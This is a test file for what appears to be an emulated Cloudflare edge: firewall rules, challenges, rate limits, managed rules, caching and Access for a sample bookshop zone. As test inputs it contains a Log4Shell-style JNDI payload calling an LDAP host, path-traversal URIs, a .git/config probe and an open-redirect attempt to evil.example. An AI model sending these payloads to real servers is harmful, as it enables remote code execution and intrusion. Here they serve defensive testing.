/** What a visitor from outside gets who asks for a host of a zone: the rules as they stand, and Cloudflare's answers. */
import { exports } from "cloudflare:workers";
import { beforeEach, describe, expect, it } from "vitest";
import { api, BOOKS, control, reset, type Fields } from "./client.ts";
import { visit } from "./visits.ts";

beforeEach(reset);

const entrypoint = (phase: string): string => `/zones/${BOOKS}/rulesets/phases/${phase}/entrypoint`;
const putRules = async (phase: string, rules: readonly Fields[]): Promise<void> => {
  const { status, text } = await api(`PUT ${entrypoint(phase)}`, {
    body: { rules },
    isUndescribed: true,
  });
  expect(status, text).toBe(200);
};
const custom = (...rules: readonly Fields[]): Promise<void> =>
  putRules("http_request_firewall_custom", rules);
const setting = async (id: string, value: unknown): Promise<void> => {
  expect((await api(`PATCH /zones/${BOOKS}/settings/${id}`, { body: { value } })).status).toBe(200);
};
interface Seen extends Fields {
  readonly status: number;
  readonly result: string;
  readonly hits: readonly { readonly ref: string; readonly action: string }[];
}
const lastVisit = async (): Promise<Seen | undefined> =>
  (await control<{ visits: Seen[] }>("GET /visits")).visits.at(-1);

describe("the door", () => {
  it("answers for the hosts of the account's zones, and leaves the API and the control plane alone", async () => {
    const home = await visit("GET /");
    expect(home.status).toBe(200);
    expect(home.headers.get("server")).toBe("cloudflare");
    expect(home.headers.get("cf-ray")).toMatch(/^[0-9a-f]{16}-SBX$/);
    expect(home.headers.get("cf-cache-status")).toBe("DYNAMIC");
    expect(await home.text()).toContain("Books from the harbor");
    expect((await visit("GET /nothing-here")).status).toBe(404);
    expect((await visit("HEAD /")).status).toBe(200);
    expect((await api("GET /zones")).status).toBe(200);
    // A name that is not proxied, and one that is only covered by the wildcard.
    expect((await visit("GET /", {}, { host: "status.harbor-books.example" })).status).toBe(409);
    expect((await visit("GET /", {}, { host: "summer.harbor-books.example" })).status).toBe(200);
  });

  it("blocks with 1020, or with the answer that the rule gives", async () => {
    const blocked = await visit("GET /admin", { accept: "*/*" });
    expect([blocked.status, await blocked.text()]).toEqual([403, "error code: 1020"]);
    const page = await visit("GET /admin");
    expect(await page.text()).toContain("Sorry, you have been blocked");
    // The offices are in a list: one as an address, one as a network.
    for (const ip of ["192.0.2.50", "198.51.100.70", "2001:db8:50::1"])
      expect((await visit("GET /admin", { "sandbox-client-ip": ip })).status, ip).toBe(404);
    await custom({
      action: "block",
      action_parameters: {
        response: { status_code: 451, content_type: "application/json", content: '{"no":1}' },
      },
      expression: 'ip.src.country eq "KR"',
    });
    const own = await visit("GET /", { "sandbox-client-country": "kr" });
    expect([own.status, await own.text()]).toEqual([451, '{"no":1}']);
    expect((await visit("GET /")).status).toBe(200);
  });

  it("sees through dots, doubled slashes and escapes, and leaves raw fields what was sent", async () => {
    for (const uri of ["/%61dmin", "//admin", "/books/..%2f../admin/", "/x/%2e%2e/admin"])
      expect((await visit(`GET ${uri}`)).status, uri).toBe(uri.includes("%2f") ? 404 : 403);
    await custom({ action: "block", expression: 'raw.http.request.uri.path contains "%61"' });
    expect((await visit("GET /%61bout")).status).toBe(403);
    expect((await visit("GET /about")).status).toBe(200);
  });

  it("goes on after `log`, leaves out what `skip` names, and stops at the first block", async () => {
    await custom(
      { ref: "count", action: "log", expression: 'http.request.uri.path eq "/about"' },
      {
        ref: "spare",
        action: "skip",
        action_parameters: { ruleset: "current" },
        expression: 'http.user_agent contains "Partner"',
      },
      { ref: "no", action: "block", expression: 'http.request.uri.path eq "/about"' },
      { ref: "never", action: "block", expression: "true" },
    );
    expect((await visit("GET /about")).status).toBe(403);
    expect((await lastVisit())?.hits.map(({ ref, action }) => [ref, action])).toEqual([
      ["count", "log"],
      ["no", "block"],
    ]);
    expect((await visit("GET /about", { "user-agent": "Partner/1" })).status).toBe(200);
    expect((await lastVisit())?.hits.map(({ ref }) => ref)).toEqual(["count", "spare"]);
  });

  it("holds up who cannot solve a challenge; a browser that did is let through by its own cookie alone", async () => {
    await custom({
      ref: "c",
      action: "managed_challenge",
      expression: 'http.request.uri.path eq "/account"',
    });
    const held = await visit("GET /account?page=2");
    expect([held.status, held.headers.get("cf-mitigated")]).toEqual([403, "challenge"]);
    const page = await held.text();
    const ray = /const ray = "([0-9a-f]{16})"/.exec(page)?.[1] ?? "";
    let sum = 0;
    for (const character of ray) sum = (sum * 31 + character.charCodeAt(0)) % 1_000_003;
    const at = `/cdn-cgi/challenge-platform/clearance?ray=${ray}&to=%2Faccount%3Fpage%3D2`;
    expect((await visit(`GET ${at}&sum=${sum + 1}`)).status).toBe(404);
    const cleared = await visit(`GET ${at}&sum=${sum}`);
    expect([cleared.status, cleared.headers.get("location")]).toEqual([302, "/account?page=2"]);
    const cookie = (cleared.headers.get("set-cookie") ?? "").split(";", 1)[0] ?? "";
    expect((await visit("GET /account", { cookie })).status).toBe(200);
    expect((await visit("GET /account", { cookie, "sandbox-client-ip": "192.0.2.9" })).status).toBe(
      403,
    );
    expect((await visit("GET /account")).status).toBe(403);
    const elsewhere = `${at.replace(/&to=.*/, "")}&to=%2F%2Fevil.example&sum=${sum}`;
    expect((await visit(`GET ${elsewhere}`)).headers.get("location")).toBe("/");
  });

  it("counts for rate limits by address, and keeps out for the time that the rule says", async () => {
    const login = (ip: string): Promise<Response> =>
      visit("POST /login", { "sandbox-client-ip": ip }, { body: "name=a&password=b" });
    const statuses: number[] = [];
    for (let index = 0; index < 22; index += 1) statuses.push((await login("192.0.2.77")).status);
    expect(statuses.slice(0, 20)).toEqual(Array.from({ length: 20 }, () => 401));
    expect(statuses.slice(20)).toEqual([429, 429]);
    const limited = await login("192.0.2.77");
    expect(Number(limited.headers.get("retry-after"))).toBeGreaterThan(500);
    expect(await limited.text()).toContain("1015");
    expect((await login("192.0.2.78")).status).toBe(401);
    await control("PUT /options", { clock_offset_ms: 700_000 });
    expect((await login("192.0.2.77")).status).toBe(401);
  });

  it("runs managed rules with the overrides of whoever executes them", async () => {
    const probe = { "x-api-version": "${jndi:ldap://203.0.113.66/a}" };
    expect((await visit("GET /", probe)).status).toBe(403);
    expect((await visit("GET /old/.git/config")).status).toBe(403);
    // Switched off by its category.
    expect((await visit("POST /wp-login.php", {}, { body: "log=a" })).status).toBe(404);
    await putRules("http_request_firewall_managed", [
      {
        action: "execute",
        expression: "true",
        action_parameters: { id: "efb7b8c949ac4650a09736fc376e9aee", overrides: { action: "log" } },
      },
    ]);
    expect((await visit("GET /", probe)).status).toBe(200);
    expect((await lastVisit())?.hits).toHaveLength(1);
  });

  it("challenges everybody but vouched-for bots under attack, and bad addresses at other levels", async () => {
    expect((await visit("GET /", { "sandbox-client-threat-score": "20" })).status).toBe(403);
    await setting("security_level", "low");
    expect((await visit("GET /", { "sandbox-client-threat-score": "20" })).status).toBe(200);
    await setting("security_level", "under_attack");
    expect((await visit("GET /")).status).toBe(403);
    const crawler = { "sandbox-client-verified-bot": "Search Engine Crawler" };
    expect((await visit("GET /", crawler)).status).toBe(200);
    await custom({
      action: "skip",
      action_parameters: { products: ["securityLevel"] },
      expression: 'http.request.uri.path eq "/healthz"',
    });
    expect((await visit("GET /healthz")).status).toBe(200);
  });

  it("redirects, rewrites, caches and sets headers as the zone's rules say", async () => {
    const moved = await visit("GET /catalogue/12?w=1");
    expect([moved.status, moved.headers.get("location")]).toEqual([
      301,
      "https://harbor-books.example/books/12?w=1",
    ]);
    expect((await visit("GET /", { "sandbox-scheme": "http" })).headers.get("location")).toBe(
      "https://harbor-books.example/",
    );
    const cache = async (uri: string, headers = {}): Promise<string | null> =>
      (await visit(`GET ${uri}`, headers)).headers.get("cf-cache-status");
    expect(await cache("/covers/9.jpg?w=200&utm=a")).toBe("MISS");
    expect(await cache("/covers/9.jpg?w=200&utm=b")).toBe("HIT");
    expect(await cache("/covers/9.jpg?w=400")).toBe("MISS");
    expect(await cache("/covers/9.jpg?w=400", { cookie: "cart=1" })).toBe("BYPASS");
    const page = await visit("GET /");
    expect(page.headers.get("x-frame-options")).toBe("DENY");
    expect(page.headers.get("strict-transport-security")).toContain("max-age=15552000");
    await putRules("http_request_transform", [
      {
        action: "rewrite",
        expression: 'starts_with(http.request.uri.path, "/b/")',
        action_parameters: {
          uri: { path: { expression: 'concat("/books/", substring(http.request.uri.path, 3))' } },
        },
      },
    ]);
    expect(await (await visit("GET /b/7")).text()).toContain("Book 7");
  });

  it("asks for a sign-in before an application, and lets in whom its policy includes", async () => {
    const there = { host: "admin.harbor-books.example" };
    const away = await visit("GET /", {}, there);
    expect(away.status).toBe(302);
    expect(away.headers.get("location")).toContain("cloudflareaccess.com/cdn-cgi/access/login/");
    const staff = { "sandbox-client-email": "anna@harbor-books.example" };
    expect((await visit("GET /", staff, there)).status).toBe(200);
    const guest = { "sandbox-client-email": "guest@elsewhere.example" };
    expect((await visit("GET /", guest, there)).status).toBe(403);
  });

  it("says 522 when a record leads away from the servers, and 503 when they are too busy", async () => {
    expect((await visit("GET /")).status).toBe(200);
    const { result } = await api<{ id: string; content: string }[]>(
      `GET /zones/${BOOKS}/dns_records?type=A&name=harbor-books.example`,
    );
    const [record] = result;
    await api(`PATCH /zones/${BOOKS}/dns_records/${record?.id}`, {
      body: { content: "203.0.113.99" },
    });
    expect((await visit("GET /")).status).toBe(522);
    await api(`PATCH /zones/${BOOKS}/dns_records/${record?.id}`, {
      body: { content: record?.content },
    });
    expect((await visit("GET /")).status).toBe(200);
    await control("PUT /options", { origin_capacity: 1 });
    const statuses = await Promise.all(
      Array.from({ length: 8 }, async (_, index) => (await visit(`GET /search?q=${index}`)).status),
    );
    expect(statuses).toContain(503);
  });

  it("reads bodies, and takes a body that is too large for none", async () => {
    await custom({
      action: "block",
      expression: 'http.request.method eq "POST" and len(http.user_agent) gt 400',
    });
    expect(
      (await visit("POST /cart", { "user-agent": "x".repeat(401) }, { body: "a=b" })).status,
    ).toBe(403);
    expect((await visit("POST /cart", {}, { body: "a=b" })).status).toBe(200);
    const large = await exports.default.fetch("http://harbor-books.example/cart", {
      method: "POST",
      body: new Uint8Array(11 * 1024 * 1024),
    });
    expect(large.status).toBe(413);
  });
});
